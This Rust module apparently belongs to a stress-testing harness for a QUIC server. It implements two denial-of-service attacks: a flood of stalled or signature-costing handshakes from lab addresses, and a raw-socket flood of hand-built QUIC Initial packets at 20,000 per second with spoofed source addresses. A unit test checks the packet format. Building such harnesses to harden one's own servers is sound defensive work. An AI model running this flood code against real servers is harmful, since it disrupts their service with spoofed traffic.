//! Attacks that need no certificate: handshakes that fail or never go on, and first packets from addresses that
//! are not the sender's.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use adit_pki::tls;
use rustls::pki_types::ServerName;
use rustls::quic::{ClientConnection, Keys, Version};
use socket2::{Domain, Protocol, Socket, Type};
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval, timeout_at};

use super::{AttackContext, ms};

/// See [`super::ALL`].
pub async fn handshakes(means: AttackContext) {
    let mut running = JoinSet::new();
    for nth in 3..20 {
        let enemy = Arc::new(means.enemy.at(Ipv4Addr::new(172, 18, 3, nth).into()));
        for n in 0..means.pace.of(64) {
            let (means, enemy) = (means.clone(), Arc::clone(&enemy));
            running.spawn(async move {
                while means.pace.goes_on() {
                    // Most hold a place for as long as they can; the others cost a signature.
                    let knocked = timeout_at(means.pace.until, enemy.knock(n % 8 != 0)).await;
                    means.counts.add("knocks", 1);
                    if let Ok(Ok(conn)) = knocked {
                        conn.closed().await;
                    }
                    ms(10).await;
                }
            });
        }
    }
    running.join_all().await;
}

/// First packets a second, at full size.
const RATE: usize = 20_000;

/// See [`super::ALL`].
pub async fn spoofed_initials(means: AttackContext) {
    let Ok(socket) = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))) else {
        return means.counts.add("no raw sockets", 1);
    };
    let hello = client_hello();
    let SocketAddr::V4(target) = means.enemy.target else { return };
    let mut beat = interval(Duration::from_millis(5));
    beat.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut nth = 0_u64;
    while means.pace.goes_on() {
        beat.tick().await;
        for _ in 0..means.pace.of(RATE) / 200 {
            nth += 1;
            let datagram = initial(&hello, nth);
            // 65,000 addresses, each with some ports.
            let [.., a, b] = (nth as u32).to_be_bytes();
            let from = (Ipv4Addr::new(10, 66, a, b), 1024 + (nth >> 16) as u16);
            let packet = ip(from, (*target.ip(), target.port()), &datagram);
            let sent = socket.send_to(&packet, &SocketAddr::from(target).into());
            means.counts.add(if sent.is_ok() { "initials" } else { "initials not sent" }, 1);
            means.counts.add("bytes", datagram.len() as u64);
        }
    }
}

/// A hello that fits one packet, since it has no post-quantum share.
fn client_hello() -> Vec<u8> {
    let mut provider = rustls::crypto::aws_lc_rs::default_provider();
    provider.kx_groups = vec![rustls::crypto::aws_lc_rs::kx_group::X25519];
    let roots = rustls::RootCertStore::empty();
    let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(provider))
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![tls::ALPN.to_vec()];
    // initial_source_connection_id, of [`initial`].
    let params = [&[0x0f, 8][..], &[7; 8]].concat();
    let name = ServerName::try_from("victim").unwrap();
    let mut client = ClientConnection::new(Arc::new(config), Version::V1, name, params).unwrap();
    let mut hello = Vec::new();
    client.write_hs(&mut hello);
    hello
}

/// A client's first packet, sealed as RFC 9001 §5.2 says, with a connection ID made of `nth`.
fn initial(hello: &[u8], nth: u64) -> Vec<u8> {
    const SIZE: usize = 1200;
    let rustls::SupportedCipherSuite::Tls13(suite) =
        rustls::crypto::aws_lc_rs::cipher_suite::TLS13_AES_128_GCM_SHA256
    else {
        unreachable!("a suite of TLS 1.3");
    };
    let mut id = [0; 20];
    id[..8].copy_from_slice(&nth.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes());
    let quic = suite.quic_suite().unwrap();
    let keys = Keys::initial(Version::V1, suite, quic.quic, &id, rustls::Side::Client);
    // Long header, Initial, four bytes of packet number; version 1; both IDs; no token; length.
    let mut packet = [&[0xc3, 0, 0, 0, 1, 20][..], &id, &[8], &[7; 8], &[0]].concat();
    let number_at = packet.len() + 2;
    packet.extend((0x4000 | (SIZE - number_at) as u16).to_be_bytes());
    packet.extend([0; 4]);
    let header_len = packet.len();
    // CRYPTO at 0.
    packet.extend([6, 0]);
    packet.extend((0x4000 | hello.len() as u16).to_be_bytes());
    packet.extend(hello);
    packet.resize(SIZE - 16, 0);
    let (header, payload) = packet.split_at_mut(header_len);
    let tag = keys.local.packet.encrypt_in_place(0, header, payload).unwrap();
    packet.extend(tag.as_ref());
    let sample = packet[number_at + 4..number_at + 20].to_vec();
    let (first, rest) = packet.split_at_mut(1);
    let number = &mut rest[number_at - 1..number_at + 3];
    keys.local.header.encrypt_in_place(&sample, &mut first[0], number).unwrap();
    packet
}

/// A whole IPv4 packet; the kernel adds its length and checksum.
fn ip(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16), payload: &[u8]) -> Vec<u8> {
    const UDP: u8 = 17;
    let len = (8 + payload.len()) as u16;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0];
    packet.extend(from.0.octets());
    packet.extend(to.0.octets());
    packet.extend([from.1, to.1, len, 0].map(u16::to_be_bytes).concat());
    packet.extend(payload);
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_first_packet_fills_a_datagram_and_differs_by_its_number() {
        let hello = client_hello();
        let (one, other) = (initial(&hello, 1), initial(&hello, 2));
        assert_eq!((one.len(), other.len()), (1200, 1200));
        assert_ne!(one[100..], other[100..]);
        assert_eq!(one[..6], [one[0], 0, 0, 0, 1, 20]);
        assert_eq!(one[0] & 0xf0, 0xc0, "a long header of an Initial");
    }
}
